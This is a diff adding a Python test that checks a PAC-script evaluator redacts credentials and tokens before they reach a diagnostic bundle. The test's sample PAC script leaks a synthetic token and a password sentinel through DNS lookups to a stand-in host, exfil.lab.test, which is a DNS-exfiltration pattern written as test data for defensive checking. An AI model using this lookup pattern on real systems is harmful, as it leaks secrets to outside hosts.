@@ -335,3 +335,23 @@ def test_as_an_unprivileged_user_the_fork_fallback_confines_too() -> None:
     assert outcome == "ok", error
     assert sandbox == ("spawn" if executable else "fork")
     assert decisions == ["undefined undefined"]
+
+
+def test_what_a_pac_answers_and_looks_up_is_redacted_for_the_bundle() -> None:
+    """Belt and braces: a PAC that carries credentials or a token itself (it cannot read
+    ours) has them masked in what the bundle keeps, its proxy names intact."""
+    from wiresleuth.bundle.redact import redact
+    from wiresleuth.model.jsonable import to_jsonable
+
+    token = "ghp_" + "Zq8" * 12
+    script = f"""function FindProxyForURL(u, h) {{
+      dnsResolve('{token}.exfil.lab.test');
+      dnsResolve('alice:{SENTINEL}@exfil.lab.test');
+      return 'PROXY alice:{SENTINEL}@proxy.lab.test:3128; PROXY {token}.lab.test:8080; DIRECT';
+    }}"""
+    with MapDns({}) as server:
+        result = evaluate(script, "spawn", resolver=("127.0.0.1", server.port))
+    saved = json.dumps(redact(to_jsonable(result)))
+    assert SENTINEL not in saved and token not in saved
+    assert "PROXY ***@proxy.lab.test:3128; PROXY ***.lab.test:8080; DIRECT" in saved
+    assert "***.exfil.lab.test" in saved and "***@exfil.lab.test" in saved
